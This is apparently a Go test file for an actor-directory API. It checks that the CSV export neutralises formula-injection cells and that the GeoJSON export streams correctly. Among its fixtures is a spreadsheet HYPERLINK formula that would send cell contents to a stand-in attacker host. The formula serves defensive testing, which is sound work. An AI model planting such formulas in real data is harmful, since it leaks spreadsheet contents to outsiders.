package handlers_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// TestCSVInjection checks that cells a spreadsheet would run as formulas
// leave the actor CSV export neutralised, negative coordinates untouched,
// and exactly as stored for a keeper asking raw=1.
func TestCSVInjection(t *testing.T) {
	s := newTestServer(t, nil)
	// Names are trimmed on input, so a leading tab or CR is checked in
	// geo/actorfile's test.
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`, "+33 5 49", "-2+3", "@SUM(A1)", "Normal"}
	for _, n := range names {
		body := map[string]any{"name": n, "sectors": []string{"culture"}, "location": map[string]any{
			"type": "Point", "coordinates": []float64{-0.4588, 46.3239}}}
		if code := s.do(t, "POST", "/api/actors", body, true, nil); code != http.StatusCreated {
			t.Fatalf("create %q = %d", n, code)
		}
	}
	get := func(path string, auth bool) (int, [][]string) {
		req, _ := http.NewRequest("GET", s.URL+path, nil)
		if auth {
			req.Header.Set("Authorization", "Bearer "+s.token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != 200 {
			return resp.StatusCode, nil
		}
		records, err := csv.NewReader(resp.Body).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, records
	}
	byName := func(records [][]string) map[string][]string {
		m := map[string][]string{}
		for _, r := range records[1:] {
			m[r[1]] = r
		}
		return m
	}
	_, records := get("/api/actors.csv", false)
	safe := byName(records)
	for _, n := range names[:4] {
		r, ok := safe["'"+n]
		if !ok {
			t.Errorf("%q is not neutralised in %v", n, records)
			continue
		}
		if r[13] != "-0.4588" || r[14] != "46.3239" {
			t.Errorf("coordinates of %q = %s %s, want -0.4588 46.3239", n, r[13], r[14])
		}
	}
	if _, ok := safe["Normal"]; !ok {
		t.Errorf("a plain name changed: %v", records)
	}
	if code, _ := get("/api/actors.csv?raw=1", false); code != http.StatusUnauthorized {
		t.Errorf("anonymous raw export = %d, want 401", code)
	}
	_, records = get("/api/actors.csv?raw=1", true)
	raw := byName(records)
	for _, n := range names {
		if _, ok := raw[n]; !ok {
			t.Errorf("raw export lacks %q exactly: %v", n, records)
		}
	}
	var e apiError
	if code := s.do(t, "GET", "/api/actors.csv?raw=yes", nil, true, &e); code != 400 || e.Fields["raw"] == "" {
		t.Errorf("raw=yes = %d %+v", code, e)
	}
}

// TestGeoJSONStreamed checks the streamed collection: valid JSON whose
// foreign members follow the features, and an empty one.
func TestGeoJSONStreamed(t *testing.T) {
	s := newTestServer(t, nil)
	var fc struct {
		Type           string            `json:"type"`
		NumberMatched  int               `json:"numberMatched"`
		NumberReturned int               `json:"numberReturned"`
		Truncated      bool              `json:"truncated"`
		Attribution    string            `json:"attribution"`
		Features       []json.RawMessage `json:"features"`
	}
	if code := s.do(t, "GET", "/api/actors.geojson", nil, false, &fc); code != 200 || fc.Type != "FeatureCollection" ||
		fc.Features == nil || len(fc.Features) != 0 || fc.Truncated {
		t.Errorf("empty collection = %d %+v", code, fc)
	}
	for _, n := range []string{"Un", "Deux", "Trois"} {
		s.do(t, "POST", "/api/actors", map[string]any{"name": n, "sectors": []string{"culture"},
			"location": map[string]any{"type": "Point", "coordinates": []float64{-0.46, 46.32}}}, true, nil)
	}
	if code := s.do(t, "GET", "/api/actors.geojson?limit=2", nil, false, &fc); code != 200 || len(fc.Features) != 2 ||
		fc.NumberReturned != 2 || fc.NumberMatched != 3 || !fc.Truncated {
		t.Errorf("limited collection = %d %+v", code, fc)
	}
	if !strings.Contains(string(fc.Features[0]), `"type":"Feature"`) {
		t.Errorf("feature %s", fc.Features[0])
	}
}
